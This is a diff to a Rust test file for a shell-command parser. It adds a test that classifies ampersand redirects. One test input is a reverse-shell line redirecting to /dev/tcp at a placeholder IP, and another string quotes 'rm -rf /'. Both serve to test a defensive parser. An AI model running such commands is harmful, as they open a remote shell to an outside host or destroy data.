@@ -2,6 +2,7 @@
 
 #![allow(clippy::indexing_slicing)]
 
+use sentry_command::RedirectKind;
 use sentry_command::{Folder, Opaque, Reading, read, read_text};
 
 /// The commands of a shell text: words joined by `|`.
@@ -61,6 +62,23 @@ fn quotes_and_escapes() {
             &["git|commit|-m|fix; rm -rf / is caught now"],
         ),
     ]);
+}
+
+#[test]
+fn a_file_behind_an_ampersand_is_written() {
+    for (text, kind) in [
+        ("a >& /dev/tcp/192.0.2.1/9 0>&1", RedirectKind::Write),
+        ("a >&f", RedirectKind::Write),
+        ("a >&2", RedirectKind::Duplicate),
+        ("a 2>&1", RedirectKind::Duplicate),
+        ("a 2>&1-", RedirectKind::Duplicate),
+        ("a >&-", RedirectKind::Duplicate),
+        ("a >&$fd", RedirectKind::Duplicate),
+    ] {
+        let reading = read_text(text);
+        let redirects = &reading.commands[0].redirects;
+        assert_eq!(redirects[0].kind, kind, "{text}");
+    }
 }
 
 #[test]
